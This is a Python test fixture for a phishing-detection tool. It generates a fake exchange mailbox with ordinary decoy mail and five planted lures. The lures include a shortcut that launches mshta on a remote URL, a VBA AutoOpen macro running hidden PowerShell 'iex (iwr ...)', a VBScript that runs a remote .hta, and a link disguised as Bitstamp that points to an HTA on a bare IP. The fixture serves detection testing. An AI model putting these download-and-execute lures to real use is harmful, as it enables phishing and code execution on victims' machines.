"""A synthetic mailbox for the demo and tests: ordinary business mail with the case's lures planted, and the truth.

The lures follow the demo's incident report (the fake trading firm Blockwave Capital, its password-protected job
description holding `Job_Description_Blockwave.pdf.lnk`) and the case's other approaches: a trading firm's macro
document, a recruiter writing from free mail with a script attached, a market-making offer whose link shows a
known exchange but leads to an HTML application on a bare IP address, and a trojanised macOS trading app.
Ordinary mail includes decoys that share words with the lures (an internal job posting, a partner's OTC terms
with a spreadsheet, newsletters with many links) and must stay below the finding threshold.

The files the lures carry are built here to their formats' specifications, so the real parsers read them:
a Windows shortcut (MS-SHLLINK header and string data), an OLE compound file (MS-CFB version 3) holding a VBA
project (MS-OVBA `dir` stream and modules, compressed with literal tokens), and AES-encrypted zip archives
(pyzipper).
"""

from __future__ import annotations

import io
import mailbox
import random
import struct
from dataclasses import dataclass
from datetime import UTC, datetime
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid
from pathlib import Path

import pyzipper

from heistwatch.hunt.lures import MEDIUM, MailHuntReport

EXCHANGE = "hokuto-exchange.com"
_SECTOR, _MINI_SECTOR, _MINI_CUTOFF = 512, 64, 4096
_FREE, _END, _FAT_SECTOR = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
_NO_STREAM = 0xFFFFFFFF
_STORAGE, _STREAM, _ROOT = 1, 2, 5
_LITERAL_CHUNK = 3640  # the most bytes a literal-only compressed chunk holds within its 4096-byte limit
Tree = dict[str, "bytes | Tree"]


@dataclass(frozen=True)
class PlantedMail:
    """What was written: lure location (`file#n`) -> the rules it must trigger; ordinary mail's locations."""

    lures: dict[str, tuple[str, ...]]
    ordinary: tuple[str, ...]
    paths: tuple[Path, ...]


@dataclass(frozen=True)
class MailScore:
    """A hunt's findings at a threshold against the planted truth."""

    found: tuple[str, ...]
    missed: tuple[str, ...]
    false_alarms: tuple[str, ...]
    rules_missing: dict[str, tuple[str, ...]]


def shortcut(target: str, arguments: str) -> bytes:
    """A minimal Windows shortcut (.lnk): ShellLinkHeader, relative path and arguments as Unicode string data."""
    flags = 0x08 | 0x20 | 0x80  # HasRelativePath, HasArguments, IsUnicode
    header = struct.pack(
        "<I16sII8s8s8sIIIHHII",
        0x4C,
        bytes.fromhex("0114020000000000c000000000000046"),  # CLSID 00021401-0000-0000-C000-000000000046
        flags,
        0x20,  # FILE_ATTRIBUTE_ARCHIVE
        bytes(8),
        bytes(8),
        bytes(8),
        0,
        0,
        7,  # SW_SHOWMINNOACTIVE: the window the lure hides
        0,
        0,
        0,
        0,
    )
    strings = b"".join(struct.pack("<H", len(s)) + s.encode("utf-16-le") for s in (target, arguments))
    return header + strings + bytes(4)  # the terminal ExtraData block


def encrypted_zip(members: dict[str, bytes], password: str) -> bytes:
    """A zip archive whose members are AES-encrypted with `password`; their names stay readable."""
    buffer = io.BytesIO()
    with pyzipper.AESZipFile(buffer, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES) as out:
        out.setpassword(password.encode())
        for name, data in members.items():
            out.writestr(name, data)
    return buffer.getvalue()


def plain_zip(members: dict[str, bytes]) -> bytes:
    """A zip archive with the members stored deflated and unencrypted."""
    buffer = io.BytesIO()
    with pyzipper.ZipFile(buffer, "w", compression=pyzipper.ZIP_DEFLATED) as out:
        for name, data in members.items():
            out.writestr(name, data)
    return buffer.getvalue()


def vba_document(modules: dict[str, str], *, project: str = "Project") -> bytes:
    """A Word-style OLE compound file whose `Macros` storage holds a VBA project with these standard modules."""
    names = "".join(f"Module={name}\r\n" for name in modules)
    project_stream = (
        f'ID="{{00000000-0000-0000-0000-000000000000}}"\r\n{names}Name="{project}"\r\n'
        'HelpContextID="0"\r\nVersionCompatible32="393222000"\r\n'
    ).encode("cp1252")
    vba: Tree = {
        "_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
        "dir": ovba_compress(_dir_stream(project, list(modules))),
        **{name: ovba_compress(code.encode("cp1252")) for name, code in modules.items()},
    }
    return compound_file({"Macros": {"PROJECT": project_stream, "VBA": vba}})


def _dir_stream(project: str, modules: list[str]) -> bytes:
    """The decompressed VBA `dir` stream (MS-OVBA 2.3.4.2): project information, no references, the modules."""

    def record(ident: int, data: bytes) -> bytes:
        return struct.pack("<HI", ident, len(data)) + data

    name = project.encode("cp1252")
    info = b"".join(
        [
            record(0x01, struct.pack("<I", 1)),  # SYSKIND: 32-bit Windows
            record(0x02, struct.pack("<I", 0x409)),  # LCID
            record(0x14, struct.pack("<I", 0x409)),  # LCIDINVOKE
            record(0x03, struct.pack("<H", 1252)),  # CODEPAGE
            record(0x04, name),
            record(0x05, b"") + record(0x40, b""),  # DOCSTRING and its Unicode twin
            record(0x06, b"") + record(0x3D, b""),  # HELPFILEPATH 1 and 2
            record(0x07, struct.pack("<I", 0)),  # HELPCONTEXT
            record(0x08, struct.pack("<I", 0)),  # LIBFLAGS
            struct.pack("<HIIH", 0x09, 4, 1, 0),  # VERSION: reserved size 4, major, minor
            record(0x0C, b"") + record(0x3C, b""),  # CONSTANTS and its Unicode twin
        ]
    )
    body = [struct.pack("<HIH", 0x0F, 2, len(modules)), record(0x13, struct.pack("<H", 0xFFFF))]
    for module in modules:
        raw = module.encode("cp1252")
        body += [
            record(0x19, raw),  # MODULENAME
            record(0x1A, raw) + record(0x32, module.encode("utf-16-le")),  # MODULESTREAMNAME
            record(0x1C, b"") + record(0x48, b""),  # MODULEDOCSTRING
            record(0x31, struct.pack("<I", 0)),  # MODULEOFFSET: the source starts the stream
            record(0x1E, struct.pack("<I", 0)),  # MODULEHELPCONTEXT
            record(0x2C, struct.pack("<H", 0xFFFF)),  # MODULECOOKIE
            struct.pack("<HI", 0x21, 0),  # MODULETYPE: procedural
            struct.pack("<HI", 0x2B, 0),  # module terminator
        ]
    return info + b"".join(body) + struct.pack("<HI", 0x10, 0)


def ovba_compress(data: bytes) -> bytes:
    """An MS-OVBA compressed container: full 4096-byte chunks raw, the last one as literal tokens (or raw, padded)."""
    out = bytearray(b"\x01")
    for start in range(0, len(data), 4096):
        chunk = data[start : start + 4096]
        if len(chunk) > _LITERAL_CHUNK:
            out += struct.pack("<H", 0x3FFF) + chunk.ljust(4096, b" ")  # raw chunk: size 4098, flag 0
            continue
        tokens = b"".join(b"\x00" + chunk[i : i + 8] for i in range(0, len(chunk), 8))
        out += struct.pack("<H", 0xB000 | (len(tokens) + 2 - 3)) + tokens
    return bytes(out)


@dataclass
class _Node:
    name: str
    kind: int
    data: bytes = b""
    children: tuple[int, ...] = ()
    left: int = _NO_STREAM
    right: int = _NO_STREAM
    child: int = _NO_STREAM
    start: int = _END


def compound_file(tree: Tree) -> bytes:
    """An MS-CFB version 3 file holding `tree` (dicts are storages); every stream is kept in the mini stream."""
    nodes = [_Node("Root Entry", _ROOT)]
    _add(nodes, 0, tree)
    mini, minifat = bytearray(), list[int]()
    for node in nodes:
        if node.kind == _STREAM and node.data:
            count = -(-len(node.data) // _MINI_SECTOR)
            node.start = len(minifat)
            minifat += [*range(node.start + 1, node.start + count), _END]
            mini += node.data.ljust(count * _MINI_SECTOR, b"\0")
    dir_count = -(-len(nodes) // 4)
    minifat_count = -(-len(minifat) * 4 // _SECTOR)
    mini_count = -(-len(mini) // _SECTOR)
    fat = [_FAT_SECTOR]
    for count in (dir_count, minifat_count, mini_count):
        fat += [*range(len(fat) + 1, len(fat) + count), _END] if count else []
    if len(fat) > _SECTOR // 4:
        raise ValueError("compound_file keeps to one FAT sector: at most 127 sectors of content")
    nodes[0].start, nodes[0].data = (1 + dir_count + minifat_count if mini else _END), bytes(mini)
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        bytes(16),
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        bytes(6),
        0,
        1,
        1,
        0,
        _MINI_CUTOFF,
        1 + dir_count if minifat else _END,
        minifat_count,
        _END,
        0,
    ) + struct.pack("<109I", 0, *([_FREE] * 108))
    empty = _entry(_Node("", 0, start=0))
    directory = b"".join(_entry(n) for n in nodes) + empty * (dir_count * 4 - len(nodes))
    return b"".join(
        [
            header,
            struct.pack(f"<{_SECTOR // 4}I", *fat, *([_FREE] * (_SECTOR // 4 - len(fat)))),
            directory,
            struct.pack(f"<{len(minifat)}I", *minifat) + b"\xff" * (minifat_count * _SECTOR - 4 * len(minifat)),
            bytes(mini).ljust(mini_count * _SECTOR, b"\0"),
        ]
    )


def _add(nodes: list[_Node], parent: int, tree: Tree) -> None:
    """Append a storage's children and link them as a balanced binary tree in the directory's sort order."""
    ids = []
    for name, value in sorted(tree.items(), key=lambda item: (len(item[0]), item[0].upper())):
        if isinstance(value, bytes) and len(value) >= _MINI_CUTOFF:
            raise ValueError(f"{name}: compound_file keeps streams under {_MINI_CUTOFF} bytes")
        nodes.append(_Node(name, _STREAM, value) if isinstance(value, bytes) else _Node(name, _STORAGE))
        ids.append(len(nodes) - 1)
        if isinstance(value, dict):
            _add(nodes, ids[-1], value)

    def link(lo: int, hi: int) -> int:
        if lo >= hi:
            return _NO_STREAM
        mid = (lo + hi) // 2
        nodes[ids[mid]].left, nodes[ids[mid]].right = link(lo, mid), link(mid + 1, hi)
        return ids[mid]

    nodes[parent].child = link(0, len(ids))


def _entry(node: _Node) -> bytes:
    """One 128-byte directory entry (all entries black: readers do not rebalance)."""
    name = node.name.encode("utf-16-le")
    return struct.pack(
        "<64sHBBIII16sIQQIQ",
        name.ljust(64, b"\0"),
        len(name) + 2 if node.name else 0,
        node.kind,
        1,
        node.left,
        node.right,
        node.child,
        bytes(16),
        0,
        0,
        0,
        node.start if node.kind in (_STREAM, _ROOT) else 0,
        len(node.data),
    )


def make_demo_mail(rng: random.Random, folder: Path, *, ordinary: int = 60) -> PlantedMail:
    """Write `ordinary` everyday messages and the case's five lures as `.eml` files and an mbox; the truth."""
    folder.mkdir(parents=True, exist_ok=True)
    messages: list[tuple[EmailMessage, tuple[str, ...] | None]] = [(_ordinary(rng, n), None) for n in range(ordinary)]
    for expected, lure in _lures():
        messages.insert(rng.randrange(len(messages) + 1), (lure, expected))
    box_path = folder / "inbox.mbox"
    box_path.unlink(missing_ok=True)
    box = mailbox.mbox(box_path)
    lures: dict[str, tuple[str, ...]] = {}
    plain: list[str] = []
    paths = [box_path]
    boxed = 0
    for number, (message, rules) in enumerate(messages, 1):
        if number % 2:  # every other message goes into the mbox, the rest are loose .eml files
            box.add(message)
            boxed += 1
            where = f"{box_path.name}#{boxed}"
        else:
            path = folder / f"{number:04d}.eml"
            path.write_bytes(message.as_bytes())
            paths.append(path)
            where = f"{path.name}#1"
        if rules is None:
            plain.append(where)
        else:
            lures[where] = rules
    box.close()
    return PlantedMail(lures=lures, ordinary=tuple(plain), paths=tuple(paths))


def score_against(truth: PlantedMail, report: MailHuntReport, *, min_score: int = MEDIUM) -> MailScore:
    """Which lures the hunt found at `min_score`, which it missed, which ordinary mail it flagged, missing rules."""
    flagged = {f"{Path(f.file).name}#{f.index}": f for f in report.findings if f.score >= min_score}
    rules_missing = {}
    for where, rules in truth.lures.items():
        finding = flagged.get(where)
        fired = {r.rule for r in finding.reasons} if finding else set()
        if missing := tuple(r for r in rules if r not in fired):
            rules_missing[where] = missing
    return MailScore(
        found=tuple(sorted(w for w in truth.lures if w in flagged)),
        missed=tuple(sorted(w for w in truth.lures if w not in flagged)),
        false_alarms=tuple(sorted(w for w in flagged if w not in truth.lures)),
        rules_missing=rules_missing,
    )


def _message(
    sender: str,
    subject: str,
    body: str,
    *,
    when: str,
    to: str = f"k.sato@{EXCHANGE}",
    reply_to: str | None = None,
    html: str | None = None,
    received: str | None = None,
    auth: str = "spf=pass dkim=pass dmarc=pass",
) -> EmailMessage:
    """A message as the exchange's mail server stores it: Received and Authentication-Results on top."""
    message = EmailMessage()
    address = sender.rpartition("<")[2].rstrip(">")
    domain = address.rpartition("@")[2]
    message["Received"] = received or (
        f"from mail.{domain} (mail.{domain} [203.0.113.{len(domain) % 250 + 1}]) by mx1.{EXCHANGE} with ESMTPS; {when}"
    )
    message["Authentication-Results"] = f"mx1.{EXCHANGE}; {auth} header.from={domain}"
    message["From"] = sender
    message["To"] = to
    if reply_to:
        message["Reply-To"] = reply_to
    message["Subject"] = subject
    message["Date"] = when
    message["Message-ID"] = make_msgid(domain=domain)
    message["Return-Path"] = f"<{address}>"
    message.set_content(body)
    if html:
        message.add_alternative(html, subtype="html")
    return message


def _when(rng: random.Random) -> str:
    moment = datetime(2026, 3, rng.randrange(1, 28), rng.randrange(7, 20), rng.randrange(60), tzinfo=UTC)
    return format_datetime(moment)


def _lures() -> list[tuple[tuple[str, ...], EmailMessage]]:
    """The case's lures, each with the rules a hunt must fire on it."""
    return [_blockwave_recruiter(), _macro_terms(), _freemail_recruiter(), _ip_link_offer(), _macos_app()]


def _blockwave_recruiter() -> tuple[tuple[str, ...], EmailMessage]:
    """The demo report's lure: Blockwave Capital's encrypted job description holding a `.pdf.lnk` shortcut."""
    lnk = shortcut(r"..\..\..\Windows\System32\mshta.exe", "https://cloud-docs-share.online/jd/view.php?id=8812")
    message = _message(
        '"Sarah Lin | Talent Partner, Blockwave Capital" <hr@blockwave-capital.com>',
        "Senior DevOps Engineer role at Blockwave Capital - job description",
        "Hi Kenji,\n\nThank you for the conversation on LinkedIn. As promised, I attach the job description for the"
        " Senior DevOps Engineer position on our trading infrastructure team. The salary range is USD 220-260k plus"
        " a token bonus.\n\nThe archive is protected for confidentiality; the password is Bw#2026jd\n\n"
        "You can also read the role page here: https://drive.google.com/file/d/1Bw7cJdRxq0/view\n\n"
        "If the role interests you, we would like to schedule an interview next week.\n\n"
        "Best regards,\nSarah Lin\nTalent Acquisition, Blockwave Capital\n",
        when="Mon, 16 Mar 2026 00:41:07 +0000",
        reply_to="sarah.lin.blockwave@gmail.com",
    )
    archive = encrypted_zip({"Job_Description_Blockwave.pdf.lnk": lnk}, "Bw#2026jd")
    message.add_attachment(archive, maintype="application", subtype="zip", filename="Blockwave_JD.zip")
    rules = ("theme", "reply-to-mismatch", "encrypted-archive", "password-in-message", "dangerous-file")
    return (*rules, "double-extension", "file-sharing-link", "kb-indicator"), message


def _macro_terms() -> tuple[tuple[str, ...], EmailMessage]:
    """A trading firm's partnership terms as a Word document whose AutoOpen macro runs PowerShell."""
    code = (
        'Attribute VB_Name = "NewMacros"\r\nSub AutoOpen()\r\n    Dim cmd As String\r\n'
        '    cmd = "powershell -w hidden -c iex (iwr https://cloud-docs-share.online/terms/view.php?id=8813)"\r\n'
        '    CreateObject("WScript.Shell").Run cmd, 0\r\nEnd Sub\r\n'
    )
    message = _message(
        '"Daniel Okafor - Norden Quant Trading" <d.okafor@nordenquant-trading.com>',
        "Market-making partnership proposal - terms of cooperation",
        "Dear Hokuto team,\n\nNorden Quant Trading is a proprietary trading firm active as a liquidity provider on"
        " twelve exchanges. We would like to offer market-making on your BTC and ETH pairs and OTC settlement for"
        " large clients.\n\nOur terms of cooperation are in the attached document; please enable editing and"
        " content to see the fee schedule.\n\nKind regards,\nDaniel Okafor\nHead of Partnerships\n",
        when="Tue, 10 Mar 2026 08:12:44 +0000",
    )
    document = vba_document({"NewMacros": code})
    message.add_attachment(document, maintype="application", subtype="msword", filename="Partnership_Terms.doc")
    return ("theme", "vba-macros", "macro-autoexec", "macro-suspicious", "kb-indicator"), message


def _freemail_recruiter() -> tuple[tuple[str, ...], EmailMessage]:
    """A recruiter writing for a company from free mail, with a VBScript 'interview schedule'."""
    script = b'Set s = CreateObject("WScript.Shell")\r\ns.Run "mshta https://arcadia-careers.net/schedule.hta", 0\r\n'
    message = _message(
        '"Kenji Watanabe (HR, Arcadia Ventures)" <arcadia.ventures.hr@gmail.com>',
        "Job opportunity: Lead Blockchain Engineer (remote)",
        "Hello,\n\nWe are hiring a Lead Blockchain Engineer for a well-funded exchange project. Your profile on"
        " LinkedIn matches what we need, and the compensation package is very competitive.\n\nPlease open the"
        " attached interview schedule to pick a slot.\n\nKenji Watanabe\nArcadia Ventures\n",
        when="Thu, 05 Mar 2026 02:30:00 +0000",
    )
    message.add_attachment(script, maintype="application", subtype="octet-stream", filename="Interview_Schedule.vbs")
    return ("theme", "freemail-company", "dangerous-file"), message


def _ip_link_offer() -> tuple[tuple[str, ...], EmailMessage]:
    """An OTC offer whose link shows a known exchange but leads to an HTML application on the report's C&C IP."""
    html = (
        "<html><body><p>Dear partner,</p><p>Our OTC desk offers liquidity provision and arbitrage execution for"
        " exchanges in Asia. Current market-making terms are published here:"
        ' <a href="http://45.138.16.212/markets/Terms.hta">https://www.bitstamp.net/markets/terms</a></p>'
        "<p>Alpha Quant Partners</p></body></html>"
    )
    message = _message(
        '"Alpha Quant Partners" <invest@alphaquant-partners.io>',
        "OTC liquidity partnership for Hokuto Exchange",
        "Dear partner,\n\nOur OTC desk offers liquidity provision and arbitrage execution.\n"
        "Current market-making terms: https://www.bitstamp.net/markets/terms\n",
        when="Wed, 11 Mar 2026 13:05:19 +0000",
        html=html,
        auth="spf=softfail dkim=none dmarc=fail",
    )
    return ("theme", "ip-link", "deceptive-link", "executable-link", "dmarc-fail", "kb-indicator"), message


def _macos_app() -> tuple[tuple[str, ...], EmailMessage]:
    """A trojanised macOS trading app (AppleJeus style) in a zip, from a trading desk."""
    macho = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00" + bytes(240)
    bundle = plain_zip(
        {
            "QuantisTrader.app/Contents/Info.plist": b'<?xml version="1.0"?><plist version="1.0"><dict/></plist>',
            "QuantisTrader.app/Contents/MacOS/QuantisTrader": macho,
        }
    )
    message = _message(
        '"Quantis Trading Desk" <desk@quantis-trade.net>',
        "Your access to the Quantis OTC trading terminal",
        "Hello,\n\nAs an OTC partner you get our desktop trading app for macOS, attached. It shows arbitrage signals"
        " across exchanges; our partners see returns of up to 12% a month.\n\nQuantis Trading Desk\n",
        when="Fri, 13 Mar 2026 06:45:00 +0000",
    )
    message.add_attachment(bundle, maintype="application", subtype="zip", filename="QuantisTrader.zip")
    return ("theme", "installer"), message


_PEOPLE = ("Aiko Tanaka", "Hiroshi Mori", "Yuki Kato", "Emma Brown", "Lucas Meyer", "Priya Nair", "Tom Becker")
_VENDORS = ("cloudsafe-hosting.com", "ledgerline-audit.com", "northwind-it.com", "blueharbor-legal.com")
_PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def _ordinary(rng: random.Random, n: int) -> EmailMessage:
    """One everyday message; the kinds rotate, the people, vendors and dates are drawn from `rng`."""
    kinds = (_internal, _newsletter, _invoice, _invite, _notification, _partner_terms, _job_posting, _shared_file)
    return kinds[n % len(kinds)](rng, n)


def _colleague(rng: random.Random) -> str:
    name = rng.choice(_PEOPLE)
    return f'"{name}" <{name.lower().replace(" ", ".")}@{EXCHANGE}>'


def _internal(rng: random.Random, n: int) -> EmailMessage:
    topic = rng.choice(("hot-wallet rotation", "cold storage audit", "on-call handover", "withdrawal queue"))
    return _message(
        _colleague(rng),
        f"Re: {topic} (#{n})",
        f"Hi,\n\nNotes on the {topic} are on the wiki: https://wiki.{EXCHANGE}/ops/{n}\n"
        "Let me know if anything is missing.\n\nThanks\n",
        when=_when(rng),
        received=f"from app{n % 4}.{EXCHANGE} (app{n % 4}.{EXCHANGE} [10.20.1.{n % 200 + 2}]) by mx1.{EXCHANGE}",
    )


def _newsletter(rng: random.Random, n: int) -> EmailMessage:
    site = "cryptomarketsweekly.com"
    articles = "".join(
        f'<p><a href="https://{site}/2026/03/{n}-{i}">Read more</a> | '
        f'<a href="https://u{n}.ct.sendgrid.net/ls/click?upn={i}">https://{site}/2026/03/{n}-{i}</a></p>'
        for i in range(rng.randrange(3, 7))
    )
    html = (
        f"<html><body><h1>Crypto Markets Weekly</h1>{articles}"
        f'<p><a href="https://bit.ly/cmw{n}">Share</a> <a href="https://{site}/unsubscribe">Unsubscribe</a></p>'
        "</body></html>"
    )
    return _message(
        f'"Crypto Markets Weekly" <news@{site}>',
        f"Weekly: ETF flows, stablecoin supply and new opportunities (issue {n})",
        f"This week's market briefing. Read online: https://{site}/issues/{n}\n",
        when=_when(rng),
        html=html,
        reply_to=f"noreply@{site}",
    )


def _invoice(rng: random.Random, n: int) -> EmailMessage:
    vendor = rng.choice(_VENDORS)
    message = _message(
        f'"Billing" <billing@{vendor}>',
        f"Invoice INV-2026-{n:04d}",
        f"Dear customer,\n\nPlease find attached invoice INV-2026-{n:04d}, due in 30 days.\n\nAccounts receivable\n",
        when=_when(rng),
    )
    message.add_attachment(_PDF, maintype="application", subtype="pdf", filename=f"INV-2026-{n:04d}.pdf")
    return message


def _invite(rng: random.Random, n: int) -> EmailMessage:
    message = _message(
        _colleague(rng),
        f"Invitation: risk committee {n}",
        "You have been invited to the weekly risk committee.\n",
        when=_when(rng),
        received=f"from app1.{EXCHANGE} (app1.{EXCHANGE} [10.20.1.9]) by mx1.{EXCHANGE}",
    )
    ics = f"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Risk committee {n}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    message.add_attachment(ics.encode(), maintype="text", subtype="calendar", filename="invite.ics")
    return message


def _notification(rng: random.Random, n: int) -> EmailMessage:
    return _message(
        '"GitHub" <notifications@github.com>',
        f"[hokuto/wallet-service] Pull request #{n + 100} merged",
        f"Merged #{n + 100} into main.\n\nhttps://github.com/hokuto/wallet-service/pull/{n + 100}\n",
        when=_when(rng),
    )


def _partner_terms(rng: random.Random, n: int) -> EmailMessage:
    """A real partner's OTC settlement sheet: shares the trading vocabulary, no macros, no tricks."""
    message = _message(
        '"Meridian Markets OTC" <otc@meridian-markets.com>',
        f"OTC settlement schedule, week {n % 52 + 1}",
        "Hi team,\n\nAttached is the updated OTC settlement schedule and our market-making volumes for the week."
        "\n\nBest,\nMeridian Markets\n",
        when=_when(rng),
    )
    sheet = plain_zip(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
            b'package/2006/content-types"/>',
            "xl/workbook.xml": b'<?xml version="1.0"?><workbook/>',
        }
    )
    message.add_attachment(
        sheet,
        maintype="application",
        subtype="vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        filename="settlement.xlsx",
    )
    return message


def _job_posting(rng: random.Random, n: int) -> EmailMessage:
    """The exchange's own HR announcing open roles: recruiting words from an internal sender."""
    return _message(
        f'"People Team" <hr@{EXCHANGE}>',
        "We're hiring: open positions and the referral bonus",
        "Hi all,\n\nWe're hiring! We have open positions in security engineering and compliance. Refer a friend"
        f" and get a bonus after their interview.\n\nSee https://careers.{EXCHANGE}/jobs\n",
        when=_when(rng),
        received=f"from app2.{EXCHANGE} (app2.{EXCHANGE} [10.20.1.7]) by mx1.{EXCHANGE}",
    )


def _shared_file(rng: random.Random, n: int) -> EmailMessage:
    name = rng.choice(_PEOPLE)
    return _message(
        '"Google Drive" <drive-shares-noreply@google.com>',
        f'{name} shared "Q1 budget v{n}" with you',
        f"{name} shared a spreadsheet with you: https://docs.google.com/spreadsheets/d/1Q{n}budget/edit\n",
        when=_when(rng),
    )
